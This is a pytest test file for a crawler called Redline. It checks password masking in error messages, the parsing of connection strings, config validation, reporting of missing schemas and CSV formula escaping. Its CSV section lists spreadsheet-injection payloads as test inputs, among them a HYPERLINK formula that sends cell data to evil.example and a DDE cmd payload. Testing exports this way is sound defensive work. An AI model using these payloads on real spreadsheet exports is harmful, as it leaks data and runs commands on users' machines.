"""What operators type: database URLs with passwords, config values, schemas, CSV for spreadsheets.

Passwords are never printed (any form: `user:pw@`, `?password=`, libpq `password=`, PGPASSWORD);
a libpq key=value string opens PostgreSQL, never a file; every [crawl]/[policy]/[web] key is
checked at start-up with one line naming the file, the table and the key; a missing
`?schema=` schema is named with the command that creates it; CSV cells cannot be formulas.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import uuid
from dataclasses import fields
from urllib.parse import urlsplit

import psycopg
import pytest
from click.testing import CliRunner

from redline.cli import cli
from redline.config import CRAWL_KEYS, POLICY_KEYS, ConfigError, load_config
from redline.crawler.crawlsettings import CrawlSettings
from redline.scheduler.policy import PolicySettings
from redline.storage import DatabaseUnavailable, SchemaError, open_store
from redline.storage.open import is_conninfo, mask_url, normalize_database_url
from tests.conftest import NOW, require_pg
from tests.databases import PG_URL, scratch_schema
from tests.records import revision

SECRET = "hunter2-Zq9"
PG = urlsplit(PG_URL)  # postgresql://postgres@127.0.0.1:5432/test (trust auth: any password)
PG_USER, PG_HOST, PG_PORT, PG_DB = PG.username, PG.hostname, PG.port or 5432, PG.path[1:]


def invoke(*args: str, env: dict[str, str] | None = None):
    result = CliRunner().invoke(cli, list(args), env=env)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def no_secret(result, caplog=None) -> None:
    text = result.stdout + result.stderr + (caplog.text if caplog is not None else "")
    assert SECRET not in text
    assert "Traceback" not in result.stderr


# --- 1. passwords are never printed; key=value strings are PostgreSQL ---------------------------
UNREACHABLE = [  # port 1: nothing listens, so each ends in an error message naming the server
    f"postgresql://u:{SECRET}@127.0.0.1:1/x",
    f"postgres://u:{SECRET}@127.0.0.1:1/x",
    f"postgresql://u@127.0.0.1:1/x?password={SECRET}",
    f"postgresql://u@127.0.0.1:1/x?sslmode=disable&password={SECRET}&schema=s",
    f"host=127.0.0.1 port=1 dbname=x user=u password={SECRET}",
    f"host=127.0.0.1 port=1 dbname=x user=u password='{SECRET} with space'",
    f"host=127.0.0.1 {SECRET} password={SECRET}",  # libpq cannot parse it: still masked
]


@pytest.mark.parametrize("url", UNREACHABLE)
def test_passwords_are_masked_in_errors_and_logs(url, tmp_path, monkeypatch, caplog):
    monkeypatch.chdir(tmp_path)
    caplog.set_level(logging.DEBUG)
    for args, env in (
        (["--db", url, "list"], None),
        (["list"], {"REDLINE_DATABASE_URL": url}),
        (["--db", url, "db", "upgrade"], None),
    ):
        result = invoke(*args, env=env)
        assert result.exit_code == 1, result.output
        no_secret(result, caplog)
        assert "****" in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1
    assert list(tmp_path.iterdir()) == []  # never a SQLite file named after the string
    assert SECRET not in mask_url(url)


def test_pgpassword_is_never_echoed(tmp_path, monkeypatch, caplog):
    monkeypatch.chdir(tmp_path)
    result = invoke(
        "--db", "postgresql://nobody-here@127.0.0.1:1/x", "list", env={"PGPASSWORD": SECRET}
    )
    assert result.exit_code == 1
    no_secret(result, caplog)


def test_password_in_the_config_file_is_masked(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    config = tmp_path / "redline.toml"
    config.write_text(f'database_url = "host=127.0.0.1 port=1 user=u password={SECRET}"\n')
    result = invoke("--config", str(config), "list")
    assert result.exit_code == 1
    no_secret(result)
    assert list(tmp_path.iterdir()) == [config]


def keyvalue(password: str = SECRET, **extra: str) -> str:
    pairs = {"host": PG_HOST, "port": str(PG_PORT), "dbname": PG_DB, "user": PG_USER, **extra}
    return " ".join(f"{k}={v}" for k, v in pairs.items()) + f" password={password}"


def test_keyvalue_string_opens_postgresql_and_never_a_file(tmp_path, monkeypatch, caplog):
    require_pg()
    monkeypatch.chdir(tmp_path)
    caplog.set_level(logging.DEBUG)
    with scratch_schema() as url:
        schema = url.rsplit("schema=", 1)[1]
        dsn = keyvalue(schema=schema)
        assert is_conninfo(dsn) and normalize_database_url(dsn).startswith("postgresql://")
        store = open_store(dsn)
        try:
            assert type(store).__name__ == "PostgresStore" and store.schema == schema
            assert SECRET not in store.url and "****" in store.url  # what the daemon logs
        finally:
            store.close()
        result = invoke("--db", dsn, "add", "https://news.example/a")
        assert result.exit_code == 0, result.stderr
        result = invoke("--db", dsn, "db", "upgrade")
        assert result.exit_code == 0 and "nothing to do" in result.stdout
        no_secret(result, caplog)
        result = invoke("list", "--json", env={"REDLINE_DATABASE_URL": dsn})
        assert [json.loads(line)["url"] for line in result.stdout.splitlines()] == [
            "https://news.example/a"
        ]
        with psycopg.connect(PG_URL) as conn:  # it went to PostgreSQL, in that schema
            (count,) = conn.execute(f"SELECT count(*) FROM {schema}.articles").fetchone()
        assert count == 1
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "form",
    [
        lambda s, schema: f"postgresql://{PG_USER}:{s}@{PG_HOST}:{PG_PORT}/{PG_DB}?schema={schema}",
        lambda s, schema: (
            f"postgresql://{PG_USER}@{PG_HOST}:{PG_PORT}/{PG_DB}?password={s}&schema={schema}"
        ),
        lambda s, schema: keyvalue(s, schema=schema),
    ],
)
def test_upgrade_output_masks_every_form(form, tmp_path, monkeypatch):
    """In a scratch schema: an upgrade of the shared database's own schema would outlive the
    test (and a newer Redline's tables there would fail an older one's run)."""
    require_pg()
    monkeypatch.chdir(tmp_path)
    with scratch_schema() as url:
        result = invoke("--db", form(SECRET, url.rsplit("schema=", 1)[1]), "db", "upgrade")
    assert result.exit_code == 0, result.stderr
    assert "****" in result.stdout
    no_secret(result)


def test_unparseable_keyvalue_is_refused_not_a_file(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(DatabaseUnavailable, match="not a valid PostgreSQL connection string"):
        open_store(f"colour=red password={SECRET}")
    assert list(tmp_path.iterdir()) == []


def test_file_paths_stay_sqlite(tmp_path):
    store = open_store(str(tmp_path / "a=b.sqlite"))
    try:
        assert type(store).__name__ == "SqliteStore"
    finally:
        store.close()


# --- 2. every configuration key is type- and range-checked at start-up --------------------------
BAD_VALUES = [
    ("crawl", "per_host", '"two"'),
    ("crawl", "per_host", "0"),
    ("crawl", "per_host", "2.5"),
    ("crawl", "per_host", "true"),
    ("crawl", "concurrency", "-3"),
    ("crawl", "concurrency", '"many"'),
    ("crawl", "timeout", '"abc"'),
    ("crawl", "timeout", "0"),
    ("crawl", "timeout", "-1.5"),
    ("crawl", "timeout", "nan"),
    ("crawl", "max_bytes", "-1"),
    ("crawl", "max_bytes", "0"),
    ("crawl", "max_bytes", '"10MB"'),
    ("crawl", "crawl_delay_cap", "-1"),
    ("crawl", "crawl_delay_cap", '"30s"'),
    ("crawl", "robots_ttl", "0"),
    ("crawl", "robots_ttl", "[1]"),
    ("crawl", "robots_error_ttl", "-5"),
    ("crawl", "max_redirects", "-1"),
    ("crawl", "max_redirects", "1.0"),
    ("crawl", "autothrottle", '"yes"'),
    ("crawl", "autothrottle", "1"),
    ("crawl", "log_level", '"LOUD"'),
    ("crawl", "log_level", "10"),
    ("crawl", "proxy", '""'),
    ("crawl", "proxy", "8080"),
    ("crawl", "proxy", '"ftp://proxy:21"'),
    ("crawl", "proxy", '"http://proxy:3128/path"'),
    ("policy", "min_interval", '"soon"'),
    ("policy", "min_interval", "0"),
    ("policy", "min_interval", "-5"),
    ("policy", "max_interval", "true"),
    ("policy", "max_interval", '"2d"\nmin_interval = "3d"'),
    ("policy", "max_age", '"forever"'),
    ("policy", "error_base", "[]"),
    ("policy", "quiet_factor", "0"),
    ("policy", "quiet_factor", '"a quarter"'),
    ("policy", "jitter", "1"),
    ("policy", "jitter", "-0.1"),
    ("policy", "jitter", '"10%"'),
    ('policy.sites."example.com"', "jitter", "2"),
    ('policy.sites."example.com"', "min_interval", '"never"'),
    ('policy.sites."example.com"', "colour", '"red"'),
    ("crawl", "colour", '"red"'),
    ("policy", "colour", '"red"'),
    ("web", "base_url", '"ftp://x.example"'),
    ("web", "base_url", "5"),
    ("web", "colour", '"red"'),
]


@pytest.mark.parametrize(("table", "key", "value"), BAD_VALUES)
def test_wrong_values_stop_with_one_line_naming_file_table_and_key(tmp_path, table, key, value):
    path = tmp_path / "bad.toml"
    path.write_text(f"[{table}]\n{key} = {value}\n")
    with pytest.raises(ConfigError) as info:
        load_config(path, environ={})
    message = str(info.value)
    assert "\n" not in message
    assert str(path) in message and f"[{table}]" in message and key in message
    result = invoke("--config", str(path), "--db", str(tmp_path / "x.sqlite"), "list")
    assert result.exit_code == 1 and result.stdout == ""
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert str(path) in result.stderr and key in result.stderr


def test_bad_profile_names_file_and_table(tmp_path):
    path = tmp_path / "bad.toml"
    path.write_text('[profiles."example.com"]\nheadline = 5\n')
    with pytest.raises(ConfigError, match=r"bad\.toml: \[profiles\].*headline"):
        load_config(path, environ={})


def test_good_values_are_accepted(tmp_path):
    path = tmp_path / "good.toml"
    path.write_text(
        "[crawl]\nper_host = 4\nconcurrency = 64\ntimeout = 12.5\nmax_bytes = 2048\n"
        "crawl_delay_cap = 0\nrobots_ttl = 3600\nrobots_error_ttl = 60.0\nmax_redirects = 0\n"
        'autothrottle = false\nlog_level = "INFO"\n'
        '[policy]\nmin_interval = "90s"\nmax_interval = 120\nmax_age = "2w"\n'
        "error_base = 3\nquiet_factor = 0.5\njitter = 0\n"
        '[policy.sites."example.com"]\nmin_interval = "1m"\n'
        '[web]\nbase_url = "https://redline.example.org"\n'
    )
    config = load_config(path, environ={})
    assert config.crawl["max_bytes"] == 2048 and config.web["base_url"].startswith("https")


def test_every_settings_field_has_a_check():
    crawl = {f.name for f in fields(CrawlSettings)} - {"user_agent", "allow_private_networks"}
    assert crawl <= set(CRAWL_KEYS)
    assert {f.name for f in fields(PolicySettings)} == set(POLICY_KEYS)


# --- 3. a ?schema= that does not exist ---------------------------------------------------------
def test_missing_schema_is_named_with_how_to_create_it(tmp_path, monkeypatch):
    require_pg()
    monkeypatch.chdir(tmp_path)
    name = f"missing_{uuid.uuid4().hex[:10]}"
    url = f"{PG_URL}?schema={name}"
    with pytest.raises(SchemaError) as info:
        open_store(url)
    assert f'schema "{name}" does not exist' in str(info.value)
    assert f"CREATE SCHEMA {name}" in str(info.value)
    for args in (["list"], ["db", "upgrade"]):
        result = invoke("--db", url, *args)
        assert result.exit_code == 1 and f"CREATE SCHEMA {name}" in result.stderr
        assert "no schema has been selected" not in result.stderr
    with psycopg.connect(PG_URL) as conn:  # refused, not created
        row = conn.execute("SELECT 1 FROM pg_namespace WHERE nspname = %s", (name,)).fetchone()
    assert row is None


# --- 4. CSV export cannot carry spreadsheet formulas -------------------------------------------
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("headline", HOSTILE)
def test_csv_export_quotes_formula_cells_and_jsonl_is_unchanged(db_url, headline):
    from redline.storage import Page

    store = open_store(db_url)
    try:
        article, _ = store.add_article("https://news.example/hostile", NOW)
        page = Page(headline=headline, byline=("=cmd()",), body=("@body", "plain"))
        store.record(revision(article.id, "f1", page, next_at=NOW))
    finally:
        store.close()
    result = invoke("--db", db_url, "export", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = [
        r for r in csv.DictReader(io.StringIO(result.stdout, newline="")) if r["type"] == "revision"
    ]
    (row,) = rows
    assert row["headline"] == "'" + headline
    assert row["byline"] == "'=cmd()" and row["body"] == "'@body\n\nplain"
    for cells in rows:
        assert not any(v and v[0] in "=+-@\t\r" for v in cells.values())
    result = invoke("--db", db_url, "export")
    (rec,) = [json.loads(line) for line in result.stdout.splitlines() if '"revision"' in line]
    assert rec["headline"] == headline and rec["byline"] == ["=cmd()"]
